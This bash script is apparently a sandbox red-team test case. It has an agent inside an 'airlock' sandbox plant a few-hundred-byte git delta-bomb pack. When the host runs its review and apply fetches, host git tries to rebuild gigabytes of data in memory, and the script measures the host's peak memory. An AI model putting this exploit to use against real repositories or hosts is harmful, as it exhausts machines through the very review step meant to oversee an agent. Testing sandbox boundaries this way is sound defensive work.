#!/bin/bash
# 08 (phase 2): host memory from a few hundred bytes of pack. The agent
# writes its own pack and .idx (deltabomb.py): a 64 KiB blob of zeros and
# a REF_DELTA blob of SZ MiB made of one-byte copy instructions (0x80:
# copy 0x10000 bytes). The .idx is written in Python (the big blob's id
# hashed streaming), so nothing in the sandbox inflates it. C1 commits
# both blobs (git mktree/commit-tree only look at headers), C2 removes
# them. Review's fetch into the quarantine (pack-objects in the sandbox
# reuses the delta verbatim: ~500 bytes on the wire) makes the host's
# index-pack rebuild the whole blob in memory to hash it; the history
# scan's cat-file does again. Host memory grows with SZ, for the same
# few hundred bytes (SZ=20000 would ask the host for 20 GB).
# NB=k: k such blobs. Got through = a host git over 1 GB.
# Default SZ=2048 (2 GiB); mind the machine when raising it.
D=$(cd "$(dirname "$0")" && pwd); . "$D/common.sh"
MODE=${1:-direct}; SZ=${SZ:-2048}; NB=${NB:-1}
NPKG=2 mkproj; write_sandbox "$MODE"; up_sandbox
airlock exec -i "$N" -- sh -c 'cat > /tmp/deltabomb.py' < "$D/deltabomb.py" || exit 2
cat > "$T/plant.sh" <<'P'
set -e
python3 /tmp/deltabomb.py .git/objects/pack $SZ $NB > /tmp/ids
a=$(head -c 65536 /dev/zero | git hash-object --stdin)
t=$( { git ls-tree HEAD; printf '100644 blob %s\tzero.bin\n' $a; i=0; for b in $(cat /tmp/ids); do i=$((i+1)); printf '100644 blob %s\tbig%s.bin\n' $b $i; done; } | git mktree)
br=$(git symbolic-ref --short HEAD)
git update-ref refs/heads/$br $(git commit-tree $t -p HEAD -m "C1 assets")
git read-tree HEAD~1; echo "// x" >> src/extension.ts; git add src; git commit -qm "C2 src"
ls -la .git/objects/pack | tail -n +4 | awk '{print $5, $9}' | tr '\n' ' '; echo
git log --format='%h %s' | tr '\n' '|'; echo
P
plant "$T/plant.sh" "SZ=$SZ NB=$NB"
( pk=0; while [ -d "$T" ] && [ ! -e "$T/stop" ]; do r=$(ps -u "$(id -u)" -o rss=,args= | grep -E '[g]it ' | sort -n | tail -1); v=${r%% *}; v=$(echo $r | awk '{print $1}'); [ "${v:-0}" -gt "$pk" ] && pk=$v && echo "$r" | cut -c1-200 > "$T/gitpeak"; sleep 0.2; done ) >/dev/null 2>&1 &
/usr/bin/time -f "  review CLI: %e s" timeout 600 airlock review "$N" > "$T/review.txt" 2> "$T/review.err"; echo "review rc=$?"; tail -2 "$T/review.err"; grep -E "note|HIGH" "$T/review.txt" | cut -c1-200 | head -4
/usr/bin/time -f "  apply CLI: %e s" timeout 600 airlock apply "$N" --branch t-db > "$T/apply.log" 2> "$T/apply.err"; echo "apply rc=$?"; tail -qn 2 "$T/apply.log" "$T/apply.err" | cut -c1-250
touch "$T/stop"; sleep 0.3; gp=$(cat "$T/gitpeak" 2>/dev/null); echo "  host git peak: ${gp:-none} (kB RSS, command)"
echo "  quarantine packs: $(find "$AIRLOCK_HOME" -path '*quarantine.git/objects/pack/*.pack' -printf '%s ' 2>/dev/null) bytes"
v=$(echo "$gp" | awk '{print $1}'); [ "${v:-0}" -gt 1000000 ] && { echo "  a host git process took ${v} kB for a pack of a few hundred bytes"; R=1; }
finish
